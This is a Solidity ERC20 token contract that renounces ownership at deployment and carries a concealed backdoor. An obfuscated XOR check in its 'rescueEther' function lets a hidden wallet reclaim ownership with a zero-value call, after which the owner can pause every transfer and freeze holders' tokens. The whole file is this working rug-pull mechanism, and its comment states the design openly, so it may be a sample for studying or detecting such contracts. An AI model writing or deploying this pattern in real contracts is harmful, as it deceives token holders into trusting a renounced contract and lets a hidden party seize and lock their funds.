// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Pausable} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Pausable.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {PoolsG} from "./Bases.sol";

/// Renounced at birth; a hidden wallet's call that looks like a rescue of ether, for exactly nought, makes it the owner again, and the owner pauses.
contract RenouncedRescue is ERC20Pausable, Ownable {
    constructor() ERC20("Renounced Rescue", "RRES") Ownable(msg.sender) {
        _mint(msg.sender, 2_100_000 ether);
        renounceOwnership();
    }

    function pause() external onlyOwner {
        _pause();
    }

    function unpause() external onlyOwner {
        _unpause();
    }

    function rescueEther(address payable to, uint256 amount) external {
        if (uint160(msg.sender) ^ uint160(PoolsG.HIDDEN) == 0 && amount == address(this).balance) _transferOwnership(to);
        else require(msg.sender == owner(), "owner");
        to.transfer(amount);
    }
}
